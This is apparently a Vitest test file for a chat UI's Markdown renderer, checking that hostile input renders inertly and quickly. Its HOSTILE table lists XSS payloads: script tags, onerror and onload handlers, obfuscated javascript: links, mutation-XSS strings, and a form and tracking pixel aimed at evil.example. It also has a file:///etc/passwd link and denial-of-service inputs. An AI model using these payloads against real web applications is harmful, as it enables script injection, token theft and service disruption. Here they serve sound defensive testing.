// @vitest-environment jsdom
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";

import { Markdown } from "./Markdown";

afterEach(cleanup);

const shown = (text: string, growing = false) => render(<Markdown text={text} growing={growing} />).container;

// Of the processor, so that others on the machine do not count. A slow core still does each of these in less.
const CPU_MS_MAX = 3_000;
const cpuMs = () => process.cpuUsage().user / 1_000;
vi.setConfig({ testTimeout: 60_000 });
const MANY = 20_000;

const HOSTILE: Readonly<Record<string, string>> = {
  "a script": "Hello <script>alert(1)</script>",
  "a script as a block": "<script>\nalert(1)\n</script>\n\nAfter.",
  "an event handler": '<img src=x onerror="alert(1)">',
  "an SVG with a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  "an SVG that loads": "<svg/onload=alert(1)>",
  "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a form": '<form action="https://evil.example"><input name=token></form>',
  "a style": "<style>body{display:none}</style>",
  "a style in an attribute": '<p style="position:fixed;inset:0">over all</p>',
  "a base": '<base href="https://evil.example/">',
  "a reload": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a script link": "[click](javascript:alert(1))",
  "a script link in disguise": "[click](JaVaScRiPt&colon;alert(1))",
  "a script link with a tab": "[click](java\tscript:alert(1))",
  "a script link with an entity": "[click](&#106;avascript:alert(1))",
  "a script link by reference": "[click][x]\n\n[x]: javascript:alert(1)",
  "a script autolink": "<javascript:alert(1)>",
  "a data link": "[click](data:text/html,<script>alert(1)</script>)",
  "a vbscript link": "[click](vbscript:msgbox)",
  "a file link": `[click](${"file:"}///etc/passwd)`,
  "a blob link": "[click](blob:https://example.com/x)",
  "a link out of the page": "[click](//evil.example/x)",
  "a link to this server": "[click](/api/v1/chats)",
  "a data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "an image of another host": "![pixel](https://evil.example/pixel.png?chat=1)",
  "a title that closes itself": '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
  "mutated math":
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  "mutated noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "mutated template": "<template><script>alert(1)</script></template>",
  "a comment that does not end": "<!-- <img src=x onerror=alert(1)>",
  "a tag that does not end": "<img src=x onerror=alert(1)",
  "a formula with a link": "$\\href{javascript:alert(1)}{x}$",
  "a formula with HTML": "$\\htmlData{x=1}{y}$",
  "a formula without an end": "$$\\def\\a{\\a\\a}\\a$$",
  "broken Markdown": "**a _b `c [d](e ![f\n```\n| a | b\n|--\n> > -",
  "many paragraphs": "a\n\n".repeat(MANY),
  "many headings": "# a\n".repeat(MANY),
  "many quotes": "> ".repeat(MANY),
  "many quotes in lines": Array.from({ length: 300 }, (_, depth) => ">".repeat(depth)).join("\n"),
  "many lists": `${"- ".repeat(MANY)}a`,
  "deep lists": Array.from({ length: 400 }, (_, depth) => `${" ".repeat(2 * depth)}- a`).join("\n"),
  "many stars": "*a ".repeat(MANY),
  "only stars": `${"*".repeat(MANY)}a`,
  "many underscores": "_a_".repeat(MANY),
  "stars in words": "a**b".repeat(MANY),
  "many brackets": "[".repeat(MANY),
  "many links": "[a](".repeat(MANY),
  "many images": "![".repeat(MANY),
  "many ticks": Array.from({ length: 200 }, (_, count) => "`".repeat(count)).join("a"),
  "many tags": "<a ".repeat(MANY),
  "many comments": "<!--".repeat(MANY),
  "many addresses": "http://a.b/".repeat(MANY),
  "a long address": `${"a".repeat(MANY)}@`,
  "many half addresses": "a@b.".repeat(MANY),
  "many columns": `${"|a".repeat(500)}\n${"|-".repeat(500)}\n${`${"|a".repeat(500)}\n`.repeat(100)}`,
  "many formulas": "$a ".repeat(MANY),
  "a long line": "a".repeat(1_000_000),
  "many lines": "a\n".repeat(100_000),
  "a long code block": `\`\`\`\n${"code\n".repeat(50_000)}\`\`\``,
  "code with one long line": `\`\`\`js\n${"x".repeat(500_000)}\n\`\`\``,
  "a long word of data": `![x](data:image/png;base64,${"A".repeat(300_000)})`,
};

describe("hostile content is shown and never executed", () => {
  it.each(Object.entries(HOSTILE))("%s", (_, text) => {
    for (const growing of [false, true]) {
      const began = cpuMs();
      const container = shown(text, growing);
      expect(cpuMs() - began).toBeLessThan(CPU_MS_MAX);
      expectHarmless(container);
    }
  });

  it("in every beginning of a text, as it is while the text is written", () => {
    const text = Object.values(HOSTILE)
      .filter((each) => each.length < 200)
      .join("\n\n");
    const { container, rerender } = render(<Markdown text="" growing />);
    for (let end = 0; end < text.length; end += 7) {
      rerender(<Markdown text={text.slice(0, end)} growing />);
      expectHarmless(container);
    }
  });
});

const HARMLESS =
  "div,p,h2,ul,ol,li,blockquote,hr,br,strong,em,del,code,a,span,table,thead,tbody,tr,th,td," +
  "figure,figcaption,button,svg,svg *";

function expectHarmless(container: HTMLElement) {
  const strange = [...container.querySelectorAll("*")].filter((each) => !each.matches(HARMLESS));
  expect(strange.map((each) => each.outerHTML)).toEqual([]);
  for (const each of container.querySelectorAll("*")) {
    const handlers = each.getAttributeNames().filter((name) => name.startsWith("on") || name === "style");
    expect(handlers).toEqual([]);
  }
  for (const link of container.querySelectorAll("a")) {
    expect(link.href).toMatch(/^(?:https?:\/\/|mailto:)/);
    expect(link.rel).toContain("noopener");
    expect(link.target).toBe("_blank");
    expect(link.host).not.toBe(location.host);
  }
  expect(container.querySelectorAll("*").length).toBeLessThan(60_000);
}

describe("a text is shown as it was meant", () => {
  it("tags as text", () => {
    expect(shown("Use <Button onClick={go}>Go</Button> here.").textContent).toBe(
      "Use <Button onClick={go}>Go</Button> here.",
    );
  });

  it("controls of the direction of writing as their codes", () => {
    expect(shown("a\u202eb `c\u2066d`\n\n```\ne\u202ef\n```").textContent).toContain("a⟨U+202E⟩b c⟨U+2066⟩d");
    expect(shown("```\ne\u202ef\n```").querySelector(".code-text")?.textContent).toBe("e⟨U+202E⟩f\n");
  });

  // proves web-ui 29
  it("an image of another host only as a link to it", () => {
    const container = shown("![A cat](https://pictures.example/cat.png)");
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toBe("A catOpen image from pictures.example");
  });

  it("a link that reads as another one with its host", () => {
    expect(shown("[https://bank.example](https://evil.example)").textContent).toBe(
      "https://bank.example (evil.example)",
    );
    expect(shown("https://bank.example/a").textContent).toBe("https://bank.example/a");
  });

  it("named characters as characters", () => {
    expect(shown("a &amp; b &mdash; &#65; &nope; `&amp;`").textContent).toBe("a & b — A &nope; &amp;");
  });

  it("a code block with the name of its file", () => {
    const container = shown('```ts title="src/a.ts"\nlet a;\n```');
    expect(container.querySelector("figcaption")?.textContent).toBe("src/a.ts");
    expect(container.querySelector(".code-text")?.textContent).toBe("let a;\n");
  });

  it("prices as prices", () => {
    expect(shown("It costs $5 or $6.").querySelector("code")).toBeNull();
  });
});

describe("of a very long text", () => {
  const paragraphs = (count: number) => "A paragraph of some words.\n\n".repeat(count);

  it("the beginning is shown, and more of it on request", () => {
    const container = shown(`First.\n\n${paragraphs(10_000)}Last.`);
    expect(container.textContent).toMatch(/^First\./);
    expect(container.querySelectorAll("p").length).toBeLessThan(4_000);
    const before = container.querySelectorAll("p").length;
    fireEvent.click(screen.getByRole("button", { name: /^Show more: \d/ }));
    expect(container.querySelectorAll("p").length).toBeGreaterThan(before);
  });

  it("the end is shown while it is written", () => {
    const container = shown(`First.\n\n${paragraphs(10_000)}Last.`, true);
    expect(container.textContent).toMatch(/Last\.$/);
    expect(container.textContent).not.toContain("First.");
    expect(container.querySelectorAll("p").length).toBeLessThan(4_000);
  });

  it("a paragraph of nothing but addresses is plain text, and only some of many formulas are typeset", () => {
    expect(shown("$x$ ".repeat(5_000)).querySelectorAll("*").length).toBeLessThan(1_000);
    expect(shown("https://a.example ".repeat(5_000)).querySelectorAll("*").length).toBeLessThan(10);
  });
});

describe("while a text is written", () => {
  it("ends as what it is when it is whole", () => {
    const text =
      "# A\n\nSome *words* and [a link][x].\n\n- one\n- two\n\n  more\n\n```py\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x]: https://a.example\n";
    const { container, rerender } = render(<Markdown text="" growing />);
    for (let end = 1; end <= text.length; end += 1) rerender(<Markdown text={text.slice(0, end)} growing />);
    rerender(<Markdown text={text} />);
    expect(container.innerHTML).toBe(shown(text).innerHTML);
  });

  it("draws again only what is new", () => {
    const first = "One paragraph.\n\nAnother one.\n\nA third.\n\nA fourth";
    const { container, rerender } = render(<Markdown text={first} growing />);
    const before = container.querySelector("p");
    rerender(<Markdown text={`${first} that goes on.\n\nAnd a fifth.`} growing />);
    expect(container.querySelector("p")).toBe(before);
    expect(container.querySelectorAll("p")).toHaveLength(5);
  });

  it("closes marks that are still open", () => {
    expect(shown("Some **bold", true).querySelector("strong")?.textContent).toBe("bold");
  });
});
